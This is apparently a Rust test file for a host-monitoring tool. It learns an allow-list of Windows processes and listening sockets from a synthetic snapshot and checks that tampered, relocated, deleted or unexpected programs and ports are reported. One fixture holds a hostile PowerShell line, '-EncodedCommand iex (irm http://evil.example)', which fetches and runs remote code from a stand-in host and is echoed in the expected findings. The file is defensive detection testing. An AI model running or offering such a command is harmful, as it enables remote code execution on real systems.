//! A snapshot of a Windows host, of our own making, on whatever system this runs: what is learned from it, and what is
//! found when something is not as it was.

use crate::learn::{How, policy};
use crate::pass::{self, Memories};
use crate::policy::Policy;
use crate::snapshot::Snapshot;
use expect_test::{Expect, expect};
use serde_json::{Value, json};

const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const TOOL: &str = r"C:\Program Files\new tools\x64\agent.exe";

#[expect(clippy::needless_pass_by_value, reason = "it reads better where it is called")]
fn process(pid: u32, parent: u32, exe: Value, user: &str) -> Value {
    json!({ "pid": pid, "start": 134_000_000_000_000_000_u64 + u64::from(pid), "since": "2026-03-01T10:00:00Z",
        "parent": parent, "exe": exe, "name": "x", "args": ["x"], "uid": 18, "user": user })
}

fn path(path: &str) -> Value {
    json!({ "path": path })
}

fn service(pid: u32, exe: &str, user: &str, unit: &str) -> Value {
    let mut process = process(pid, 600, path(exe), user);
    process["unit"] = unit.into();
    process
}

fn system() -> Value {
    process(4, 0, json!("kernel"), r"NT AUTHORITY\SYSTEM")
}

fn socket(protocol: &str, address: &str, port: u16, owner: &Value) -> Value {
    json!({ "protocol": protocol, "address": address, "port": port, "user": owner["user"], "inode": 0, "owners": [owner] })
}

/// What runs, who signed which file in what state, and what listens.
fn snapshot(processes: &[Value], signers: &[(&str, &str, &str)], sockets: &[Value]) -> Snapshot {
    let packages: serde_json::Map<String, Value> = signers
        .iter()
        .map(|(path, name, state)| ((*path).to_owned(), json!({ "name": name, "state": state })))
        .collect();
    serde_json::from_value(json!({
        "schema": 1, "host": "WIN1", "boot-id": "boot 7", "taken": "2026-03-01T12:00:00Z",
        "processes": { "facts": { "processes": processes, "packages": packages, "sees-all": true } },
        "listeners": { "facts": { "listeners": sockets, "ephemeral": [49152, 65535], "sees-all": true } },
    }))
    .unwrap()
}

fn processes() -> Vec<Value> {
    let mut job = process(900, 600, path(POWERSHELL), r"WIN1\tom");
    job["script"] = r"C:\Jobs\nightly.ps1".into();
    vec![
        process(0, 0, json!("kernel"), r"NT AUTHORITY\SYSTEM"),
        system(),
        process(88, 4, json!("kernel"), r"NT AUTHORITY\SYSTEM"),
        service(700, SVCHOST, r"NT AUTHORITY\NETWORK SERVICE", "RpcEptMapper+RpcSs"),
        service(710, SVCHOST, r"NT AUTHORITY\SYSTEM", "Schedule"),
        service(800, TOOL, r"NT AUTHORITY\LOCAL SERVICE", "Agent"),
        job,
    ]
}

const SIGNERS: &[(&str, &str, &str)] = &[
    (SVCHOST, "Microsoft Windows Publisher", "unmodified"),
    (POWERSHELL, "Microsoft Windows", "unmodified"),
    (TOOL, "Example Ltd", "unmodified"),
];

fn host() -> Snapshot {
    let all = processes();
    snapshot(
        &all,
        SIGNERS,
        &[
            socket("tcp", "0.0.0.0", 135, &all[3]),
            socket("tcp", "::", 135, &all[3]),
            socket("tcp", "::", 445, &system()),
            socket("udp", "0.0.0.0", 50_123, &all[5]),
        ],
    )
}

fn learned() -> String {
    policy(&pass::watches(), &host(), &How::default())
        .unwrap()
        .split_once("schema = 1\n")
        .unwrap()
        .1
        .to_owned()
}

/// The findings on a snapshot with the policy that was learned from the host as it was.
fn findings(snapshot: &Snapshot) -> String {
    let rules = Policy::from_text("policy.toml", &format!("schema = 1\n{}", learned())).unwrap();
    let found = pass::check_all(&pass::watches(), snapshot, &rules, &mut Memories::default());
    let lines = found.iter().map(|finding| {
        let nearest = finding
            .nearest
            .as_ref()
            .map_or(String::new(), |near| format!("  {}: {}\n", near.rule, near.why_not));
        format!(
            "{} {}: {}\n  {}\n{nearest}",
            finding.severity.as_str(),
            finding.code,
            finding.title,
            finding.subject
        )
    });
    lines.collect()
}

fn finds(processes: &[Value], signers: &[(&str, &str, &str)], sockets: &[Value], expected: &Expect) {
    expected.assert_eq(&findings(&snapshot(processes, signers, sockets)));
}

#[test]
fn a_windows_host_is_learned_and_then_nothing_differs() {
    expect![[r#"

        # Processes that may run, by executable, script and user.

        [[process]]
        exe     = 'C:\Program Files\new tools\x64\agent.exe'
        package = "Example Ltd"
        users   = ['NT AUTHORITY\LOCAL SERVICE']
        why     = "ran when this policy was learned"
        by      = "watchdog snapshot 2026-03-01"

        [[process]]
        exe     = 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
        script  = 'C:\Jobs\nightly.ps1'
        package = "Microsoft Windows"
        users   = ['WIN1\tom']
        why     = "ran when this policy was learned"
        by      = "watchdog snapshot 2026-03-01"

        [[process]]
        exe     = 'C:\Windows\System32\svchost.exe'
        package = "Microsoft Windows Publisher"
        users   = ['NT AUTHORITY\NETWORK SERVICE', 'NT AUTHORITY\SYSTEM']
        why     = "ran when this policy was learned"
        by      = "watchdog snapshot 2026-03-01"

        # Sockets that may listen. With `required = true` in a rule, nothing listening there is reported too.

        [[listener]]
        protocol = "tcp"
        bind     = "any"
        port     = 135
        exe      = 'C:\Windows\System32\svchost.exe'
        why      = "listened when this policy was learned"
        by       = "watchdog snapshot 2026-03-01"

        [[listener]]
        protocol = "tcp"
        bind     = "any"
        port     = 445
        exe      = "(kernel)"
        why      = "listened when this policy was learned"
        by       = "watchdog snapshot 2026-03-01"

        [[listener]]
        protocol = "udp"
        bind     = "any"
        port     = "ephemeral"
        exe      = 'C:\Program Files\new tools\x64\agent.exe'
        why      = "listened when this policy was learned"
        by       = "watchdog snapshot 2026-03-01"
    "#]]
    .assert_eq(&learned());
    assert_eq!(findings(&host()), "");
}

#[test]
fn the_same_file_is_the_same_however_its_path_is_written() {
    let spelled = r"c:\WINDOWS\SYSTEM32\SVCHOST.EXE";
    let process = service(700, spelled, r"NT AUTHORITY\SYSTEM", "x");
    finds(&[process], &[(spelled, "Microsoft Windows Publisher", "unmodified")], &[], &expect![""]);
}

#[test]
fn a_program_that_is_not_where_it_belongs_or_not_what_was_signed_is_found() {
    let system = r"NT AUTHORITY\SYSTEM";
    let elsewhere = r"C:\Users\Public\svchost.exe";
    let copied = r"C:\Windows\Temp\agent.exe";
    let mut gone = process(930, 600, json!({ "deleted": TOOL }), r"NT AUTHORITY\LOCAL SERVICE");
    gone["parent"] = 0.into();
    let mut evil = process(940, 600, path(POWERSHELL), r"WIN1\tom");
    evil["script"] = "-EncodedCommand iex (irm http://evil.example)".into();
    finds(
        &[
            service(910, elsewhere, system, "evil"),
            process(920, 600, path(copied), r"NT AUTHORITY\LOCAL SERVICE"),
            service(800, TOOL, r"NT AUTHORITY\LOCAL SERVICE", "Agent"),
            service(700, SVCHOST, system, "Schedule"),
            process(
                88,
                4,
                json!({ "unreadable": "it has no executable and is none of the kernel's own" }),
                system,
            ),
            gone,
            evil,
        ],
        // The copy is as it was signed, the tool is not, and of svchost nobody says anything.
        &[(copied, "Example Ltd", "unmodified"), (TOOL, "Example Ltd", "modified")],
        &[],
        &expect![[r#"
            urgent unknown-process: unknown process C:\Program Files\new tools\x64\agent.exe (a deleted or replaced file) run by NT AUTHORITY\LOCAL SERVICE
              deleted=C:\Program Files\new tools\x64\agent.exe user=NT AUTHORITY\LOCAL SERVICE
              process C:\Program Files\new tools\x64\agent.exe (policy.toml:5): it does not allow a deleted or replaced file; the file belongs to no package, not to Example Ltd
            urgent unknown-process: unknown process C:\Program Files\new tools\x64\agent.exe run by NT AUTHORITY\LOCAL SERVICE
              exe=C:\Program Files\new tools\x64\agent.exe user=NT AUTHORITY\LOCAL SERVICE
              process C:\Program Files\new tools\x64\agent.exe (policy.toml:5): the file is not as Example Ltd brought it
            urgent unknown-process: unknown process C:\Users\Public\svchost.exe run by NT AUTHORITY\SYSTEM
              exe=C:\Users\Public\svchost.exe user=NT AUTHORITY\SYSTEM
            urgent unknown-process: unknown process C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe running -EncodedCommand iex (irm http://evil.example) run by WIN1\tom
              exe=C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe script=-EncodedCommand iex (irm http://evil.example) user=WIN1\tom
              process C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe (policy.toml:12): it is for the script C:\Jobs\nightly.ps1; the file belongs to no package, not to Microsoft Windows
            urgent unknown-process: unknown process C:\Windows\System32\svchost.exe run by NT AUTHORITY\SYSTEM
              exe=C:\Windows\System32\svchost.exe user=NT AUTHORITY\SYSTEM
              process C:\Windows\System32\svchost.exe (policy.toml:20): the file belongs to no package, not to Microsoft Windows Publisher
            urgent unknown-process: unknown process C:\Windows\Temp\agent.exe run by NT AUTHORITY\LOCAL SERVICE
              exe=C:\Windows\Temp\agent.exe user=NT AUTHORITY\LOCAL SERVICE
            urgent unreadable-process: a process of NT AUTHORITY\SYSTEM hides what it runs
              user=NT AUTHORITY\SYSTEM
        "#]],
    );
}

#[test]
fn a_door_that_the_kernel_opens_is_told_from_one_of_a_program() {
    let all = processes();
    let mut unknown = socket("tcp", "0.0.0.0", 8080, &all[3]);
    unknown["owners"] = json!([]);
    unknown["user"] = "(unknown)".into();
    finds(
        &all,
        SIGNERS,
        &[
            socket("tcp", "0.0.0.0", 5985, &system()),
            socket("tcp", "0.0.0.0", 445, &all[5]),
            socket("tcp", "0.0.0.0", 135, &system()),
            unknown,
        ],
        &expect![[r#"
            urgent new-listener: tcp port 135 on every address is opened by the kernel itself
              tcp any 135 exe=(kernel)
              listener tcp any 135 C:\Windows\System32\svchost.exe (policy.toml:29): it is for C:\Windows\System32\svchost.exe, and this is (kernel)
            urgent new-listener: tcp port 445 on every address is opened by C:\Program Files\new tools\x64\agent.exe run by NT AUTHORITY\LOCAL SERVICE
              tcp any 445 exe=C:\Program Files\new tools\x64\agent.exe
              listener tcp any 445 (kernel) (policy.toml:37): it is for (kernel), and this is C:\Program Files\new tools\x64\agent.exe
            urgent new-listener: tcp port 5985 on every address is opened by the kernel itself
              tcp any 5985 exe=(kernel)
              listener tcp any 445 (kernel) (policy.toml:37): it is for port 445
            urgent new-listener: tcp port 8080 on every address is open, and no process was found that holds it
              tcp any 8080 user=(unknown)
        "#]],
    );
}
